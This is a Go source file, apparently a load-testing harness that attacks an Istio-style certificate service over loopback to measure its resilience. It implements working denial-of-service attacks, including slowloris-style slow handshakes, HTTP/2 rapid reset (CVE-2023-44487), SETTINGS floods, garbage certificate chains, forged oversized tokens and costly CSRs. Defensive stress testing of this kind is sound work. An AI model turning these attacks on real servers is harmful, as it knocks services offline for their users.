package main

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/rsa"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/asn1"
	"encoding/base64"
	"encoding/binary"
	"encoding/json"
	"encoding/pem"
	"errors"
	"fmt"
	"io"
	"math"
	"math/big"
	"net"
	"os"
	"strconv"
	"strings"
	"sync/atomic"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
	"google.golang.org/grpc"
	"google.golang.org/grpc/credentials"
	pb "istio.io/api/security/v1alpha1"
)

// hostileVerb is the argument that makes this program a hostile neighbour: it reads hostileOrder from its standard input, and then, for each 'true' that
// it reads, writes how much it has done so far, once that is not nothing. It ends with its input.
const hostileVerb = "hostile"

// hostileOrder is what one process does.
type hostileOrder struct {
	Attack       string // its name
	Address      string
	Addresses    int      // from how many it comes, in 127.0.0.0/8
	Tokens, CSRs []string // that are good
}

// attack is a way to be hostile. So many do it at once, over and over, whatever becomes of it.
type attack struct {
	name   string
	counts string // what is counted as done
	atOnce int
	many   bool // it is also tried from manyAddresses
	once   func(h *hostile, from net.IP) error
}

// manyAddresses is from how many addresses an attack comes that does not come from one.
const manyAddresses = 64

// streams is how many calls an attacker has under way on each of its connections: as many as a server lets it.
const streams = 16

var attacks = []attack{
	{"slow handshakes: a ClientHello, an octet a second", "octets", 2000, false, (*hostile).slowHandshake},
	{"slow connections: after the handshake HTTP/2's preface, an octet a second", "octets", 1000, false, (*hostile).slowPreface},
	{"requests of which the half is sent", "requests", 256, false, (*hostile).halfRequests},
	{"connections that are closed at once", "connections", 64, true, (*hostile).connect},
	{"a ClientHello and away", "ClientHellos", 64, true, (*hostile).greet},
	{"whole handshakes and away", "handshakes", 64, true, (*hostile).shakeHands},
	{"handshakes with a long chain of garbage as client certificate, and a call", "calls", 64, true, (*hostile).showGarbage},
	{"calls with a bad token of 15 KiB", "calls", 64, true, (*hostile).badTokens},
	{"calls with a good token and an RSA-4096 CSR with a large exponent and a bad signature", "calls", 64, true, (*hostile).dearCSRs},
	{"calls with a good token and an RSA-16384 CSR", "calls", 64, false, (*hostile).largeKeys},
	{"calls with a request of 250 KiB", "calls", 64, false, (*hostile).largeRequests},
	{"calls that are reset at once", "calls", 16, true, (*hostile).resets},
	{"SETTINGS whose acknowledgements are not read", "frames", 16, false, (*hostile).settings},
	{"good calls as fast as they are answered", "certificates", 64, true, (*hostile).honest},
}

func attackNamed(name string) (attack, error) {
	for _, a := range attacks {
		if a.name == name {
			return a, nil
		}
	}
	return attack{}, fmt.Errorf("there is no attack %q", name)
}

// hostile is the process.
type hostile struct {
	hostileOrder
	done  atomic.Int64
	first chan struct{} // closed once something is done
	next  atomic.Int64  // token and CSR
	hello []byte        // a ClientHello

	key   *ecdsa.PrivateKey
	chain [][]byte // of garbage
}

func (h *hostile) did(n int) {
	if h.done.Add(int64(n)) == int64(n) {
		close(h.first)
	}
}

// playHostile is what a process of hostileVerb does.
func playHostile() error {
	if err := stepBack(); err != nil {
		return err
	}
	in, out := json.NewDecoder(os.Stdin), json.NewEncoder(os.Stdout)
	h := &hostile{first: make(chan struct{})}
	if err := in.Decode(&h.hostileOrder); err != nil {
		return fmt.Errorf("reading what to do: %w", err)
	}
	a, err := attackNamed(h.Attack)
	if err != nil {
		return err
	}
	if err := errors.Join(h.makeHello(), h.makeChain()); err != nil {
		return err
	}
	for i := range a.atOnce {
		go func() { // until the process ends
			for {
				if a.once(h, loopback(i%h.Addresses)) != nil {
					<-time.After(10 * time.Millisecond) // it was refused, which is what the others hope for
				}
			}
		}()
	}
	for {
		var more bool
		switch err := in.Decode(&more); {
		case errors.Is(err, io.EOF):
			return nil
		case err != nil:
			return err
		}
		select {
		case <-h.first:
		case <-time.After(patience):
			return fmt.Errorf("%s: nothing was done within %s", h.Attack, patience)
		}
		if err := out.Encode(h.done.Load()); err != nil {
			return err
		}
	}
}

// stepBack lets those go first on this core who measure. Threads that are made later are like those that make them.
func stepBack() error {
	threads, err := os.ReadDir("/proc/self/task")
	if err != nil {
		return err
	}
	for _, thread := range threads {
		id, err := strconv.Atoi(thread.Name())
		if err != nil {
			return err
		}
		if err := unix.SchedSetAttr(id, &unix.SchedAttr{Size: unix.SizeofSchedAttr, Policy: unix.SCHED_IDLE}, 0); err != nil && !errors.Is(err, unix.ESRCH) {
			return fmt.Errorf("lowering the priority of a thread: %w", err)
		}
	}
	return nil
}

// dial connects, from an address whose ports do not run out.
func (h *hostile) dial(from net.IP) (net.Conn, error) {
	dialer := net.Dialer{LocalAddr: &net.TCPAddr{IP: from}, Control: func(_, _ string, c syscall.RawConn) (err error) {
		return errors.Join(c.Control(func(fd uintptr) { err = unix.SetsockoptInt(int(fd), unix.IPPROTO_IP, unix.IP_BIND_ADDRESS_NO_PORT, 1) }), err)
	}}
	return dialer.Dial("tcp", h.Address)
}

// tlsConfig is that of somebody who does not care whom it talks to.
func tlsConfig() *tls.Config {
	return &tls.Config{InsecureSkipVerify: true, MinVersion: tls.VersionTLS13, NextProtos: []string{"h2"}} //nolint:gosec // it has no secrets
}

func (h *hostile) dialTLS(from net.IP) (*tls.Conn, error) {
	raw, err := h.dial(from)
	if err != nil {
		return nil, err
	}
	conn := tls.Client(raw, tlsConfig())
	if err := conn.Handshake(); err != nil {
		return nil, errors.Join(err, raw.Close())
	}
	return conn, nil
}

func (h *hostile) makeHello() error {
	ours, theirs := net.Pipe()
	defer ours.Close()
	go func() { _ = tls.Client(theirs, tlsConfig()).Handshake() }() // ends with the pipe
	header := make([]byte, 5)
	if _, err := io.ReadFull(ours, header); err != nil {
		return err
	}
	body := make([]byte, binary.BigEndian.Uint16(header[3:]))
	_, err := io.ReadFull(ours, body)
	h.hello = append(header, body...)
	return err
}

// drip sends a text, an octet a second.
func (h *hostile) drip(conn net.Conn, text []byte) error {
	for i := range text {
		if _, err := conn.Write(text[i : i+1]); err != nil {
			return err
		}
		h.did(1)
		<-time.After(time.Second)
	}
	return nil
}

func (h *hostile) slowHandshake(from net.IP) error {
	conn, err := h.dial(from)
	if err != nil {
		return err
	}
	defer conn.Close()
	return h.drip(conn, h.hello)
}

func (h *hostile) slowPreface(from net.IP) error {
	conn, err := h.dialTLS(from)
	if err != nil {
		return err
	}
	defer conn.Close()
	return h.drip(conn, []byte(preface))
}

func (h *hostile) connect(from net.IP) error {
	conn, err := h.dial(from)
	if err != nil {
		return err
	}
	h.did(1)
	return errors.Join(conn.(*net.TCPConn).SetLinger(0), conn.Close())
}

func (h *hostile) greet(from net.IP) error {
	conn, err := h.dial(from)
	if err != nil {
		return err
	}
	defer conn.Close()
	_, err = conn.Write(h.hello)
	h.did(1)
	return err
}

func (h *hostile) shakeHands(from net.IP) error {
	conn, err := h.dialTLS(from)
	if err != nil {
		return err
	}
	h.did(1)
	return conn.Close()
}

// The frames of HTTP/2 (RFC 9113 6) that are sent by hand, and the flags of theirs.
const (
	preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

	frameData, frameHeaders, frameReset, frameSettings = 0, 1, 3, 4

	endStream, endHeaders = 1, 4
)

// frame is one of HTTP/2 (RFC 9113 4.1).
func frame(kind, flags byte, stream uint32, payload string) string {
	header := binary.BigEndian.AppendUint32(nil, uint32(len(payload))<<8|uint32(kind))
	return string(binary.BigEndian.AppendUint32(append(header, flags), stream)) + payload
}

// callHeaders are those of a call, in HPACK: literals that are not indexed (RFC 7541 6.2.2).
func callHeaders() string {
	var text strings.Builder
	for _, field := range [][2]string{{":method", "POST"}, {":scheme", "https"}, {":path", pb.IstioCertificateService_CreateCertificate_FullMethodName},
		{":authority", "localhost"}, {"content-type", "application/grpc"}, {"te", "trailers"}} {
		for i, part := range field {
			text.WriteString([]string{"\x00", ""}[i])
			text.WriteByte(byte(len(part))) // less than 127 octets, and no Huffman code
			text.WriteString(part)
		}
	}
	return text.String()
}

// http2 is a connection on which HTTP/2 has begun.
func (h *hostile) http2(from net.IP) (*tls.Conn, error) {
	conn, err := h.dialTLS(from)
	if err != nil {
		return nil, err
	}
	if _, err := io.WriteString(conn, preface+frame(frameSettings, 0, 0, "")); err != nil {
		return nil, errors.Join(err, conn.Close())
	}
	return conn, nil
}

// halfRequests begins as many calls as it may on a connection, and waits until the server has had enough of it.
func (h *hostile) halfRequests(from net.IP) error {
	conn, err := h.http2(from)
	if err != nil {
		return err
	}
	defer conn.Close()
	var text strings.Builder
	for i := range uint32(streams) {
		text.WriteString(frame(frameHeaders, endHeaders, 2*i+1, callHeaders()) + frame(frameData, 0, 2*i+1, "\x00\x00\x00\x10\x00half"))
	}
	if _, err := io.WriteString(conn, text.String()); err != nil {
		return err
	}
	h.did(streams)
	_, err = io.Copy(io.Discard, conn)
	return err
}

// resets begins calls, with an empty request, and resets each (CVE-2023-44487).
func (h *hostile) resets(from net.IP) error {
	conn, err := h.http2(from)
	if err != nil {
		return err
	}
	defer conn.Close()
	go func() { _, _ = io.Copy(io.Discard, conn) }() // ends with the connection
	headers, cancel := callHeaders(), string(binary.BigEndian.AppendUint32(nil, 8))
	for stream := uint32(1); stream < math.MaxInt32-2*streams; {
		var text strings.Builder
		for range streams {
			text.WriteString(frame(frameHeaders, endHeaders, stream, headers) + frame(frameData, endStream, stream, "\x00\x00\x00\x00\x00") + frame(frameReset, 0, stream, cancel))
			stream += 2
		}
		if _, err := io.WriteString(conn, text.String()); err != nil {
			return err
		}
		h.did(streams)
	}
	return nil
}

func (h *hostile) settings(from net.IP) error {
	conn, err := h.http2(from)
	if err != nil {
		return err
	}
	defer conn.Close()
	const together = 100
	text := strings.Repeat(frame(frameSettings, 0, 0, ""), together)
	for {
		if err := conn.SetWriteDeadline(time.Now().Add(10 * time.Second)); err != nil {
			return err
		}
		if _, err := io.WriteString(conn, text); err != nil {
			return err
		}
		h.did(together)
	}
}

// calls makes calls on one connection, as many at once as it may, until one finds that there is no connection any more. Every answer counts, or only
// certificates.
func (h *hostile) calls(from net.IP, config *tls.Config, last int, next func() request, certificates bool) error {
	conn, err := grpc.NewClient("passthrough:///"+h.Address, grpc.WithTransportCredentials(credentials.NewTLS(config)),
		grpc.WithContextDialer(func(context.Context, string) (net.Conn, error) { return h.dial(from) }))
	if err != nil {
		return err
	}
	defer conn.Close()
	c := &caller{conn, pb.NewIstioCertificateServiceClient(conn)}
	return closed(context.Background(), min(streams, last), last, func(ctx context.Context, _, _ int) error {
		_, err := c.ask(ctx, next())
		if err == nil || !certificates {
			h.did(1)
		}
		return nil
	})
}

// good is what an honest caller asks.
func (h *hostile) good() request {
	i := int(h.next.Add(1))
	return request{csr: h.CSRs[i%len(h.CSRs)], token: h.Tokens[i%len(h.Tokens)]}
}

func (h *hostile) honest(from net.IP) error {
	return h.calls(from, tlsConfig(), math.MaxInt, h.good, true)
}

// unsigned is a CSR for an RSA key that nobody has, with a signature that is none.
func unsigned(bits, exponent int) (string, error) {
	modulus := make([]byte, bits/8)
	rand.Read(modulus) // never fails since Go 1.24
	modulus[0] |= 0x80
	modulus[len(modulus)-1] |= 1
	key, err := x509.MarshalPKIXPublicKey(&rsa.PublicKey{N: new(big.Int).SetBytes(modulus), E: exponent})
	if err != nil {
		return "", err
	}
	type content struct { // CertificationRequestInfo (RFC 2986 4.1)
		Version    int
		Subject    pkix.RDNSequence
		Key        asn1.RawValue
		Attributes []int `asn1:"tag:0,set"`
	}
	signature := append([]byte{0}, modulus[1:]...) // less than the modulus
	der, err := asn1.Marshal(struct {
		Content   content
		Algorithm pkix.AlgorithmIdentifier
		Signature asn1.BitString
	}{
		content{Key: asn1.RawValue{FullBytes: key}},
		pkix.AlgorithmIdentifier{Algorithm: asn1.ObjectIdentifier{1, 2, 840, 113549, 1, 1, 11}, Parameters: asn1.NullRawValue}, // RFC 4055 5
		asn1.BitString{Bytes: signature, BitLength: 8 * len(signature)},
	})
	return string(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE REQUEST", Bytes: der})), err
}

// withCSR makes calls that bring a good token and a CSR of the attacker's.
func (h *hostile) withCSR(from net.IP, csr string) error {
	return h.calls(from, tlsConfig(), math.MaxInt, func() request { return request{csr: csr, token: h.good().token} }, false)
}

func (h *hostile) dearCSRs(from net.IP) error {
	csr, err := unsigned(4096, math.MaxInt32)
	if err != nil {
		return err
	}
	return h.withCSR(from, csr)
}

func (h *hostile) largeKeys(from net.IP) error {
	csr, err := unsigned(16384, 65537)
	if err != nil {
		return err
	}
	return h.withCSR(from, csr)
}

func (h *hostile) largeRequests(from net.IP) error {
	return h.withCSR(from, strings.Repeat("x", 250<<10))
}

// badTokens brings tokens that a trusted issuer seems to have signed, with as much in them as may be.
func (h *hostile) badTokens(from net.IP) error {
	parts := strings.Split(h.good().token, ".")
	if len(parts) != 3 {
		return errors.New("a token has not three parts")
	}
	claims, err := base64.RawURLEncoding.DecodeString(parts[1])
	if err != nil {
		return err
	}
	claims = append(claims[:len(claims)-1], `,"more":"`+strings.Repeat("x", 10<<10)+`"}`...)
	r := request{csr: h.good().csr, token: parts[0] + "." + base64.RawURLEncoding.EncodeToString(claims) + "." + parts[2]}
	return h.calls(from, tlsConfig(), math.MaxInt, func() request { return r }, false)
}

// makeChain makes certificates that lead nowhere, as many as a handshake may have.
func (h *hostile) makeChain() (err error) {
	if h.key, err = ecdsa.GenerateKey(elliptic.P256(), rand.Reader); err != nil {
		return err
	}
	template := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "nobody"}, NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour)}
	der, err := x509.CreateCertificate(rand.Reader, template, template, h.key.Public(), h.key)
	for size := 0; size < 60<<10; size += len(der) + 8 {
		h.chain = append(h.chain, der)
	}
	return err
}

// showGarbage shows certificates that nobody has seen before: their signatures are random.
func (h *hostile) showGarbage(from net.IP) error {
	garbage := tls.Certificate{PrivateKey: h.key}
	for _, der := range h.chain {
		der = append([]byte(nil), der...)
		rand.Read(der[len(der)-16:])
		garbage.Certificate = append(garbage.Certificate, der)
	}
	config := tlsConfig()
	config.GetClientCertificate = func(*tls.CertificateRequestInfo) (*tls.Certificate, error) { return &garbage, nil }
	return h.calls(from, config, 1, func() request { return request{csr: h.good().csr} }, false)
}
